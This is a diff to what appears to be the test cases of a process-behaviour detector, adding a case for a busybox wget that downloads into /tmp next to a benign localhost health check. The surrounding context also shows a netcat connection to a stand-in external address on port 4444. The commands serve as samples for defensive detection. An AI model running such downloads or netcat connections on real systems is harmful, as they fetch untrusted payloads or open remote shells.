@@ -189,4 +189,10 @@ CASES = (
         runs("nc 192.0.2.1 4444", proc__name="exe", proc__exepath="/usr/bin/busybox"),
         "one connection, started by a busybox that is its own shell",
     ),
+    Case(
+        "Download into a temporary directory",
+        runs("wget -O /tmp/x http://192.0.2.1/x", proc__name="exe", proc__exepath="/usr/bin/busybox"),
+        runs("wget -O - http://127.0.0.1/healthz", proc__name="exe", proc__exepath="/usr/bin/busybox"),
+        "a health check, by a busybox that is its own shell",
+    ),
 )
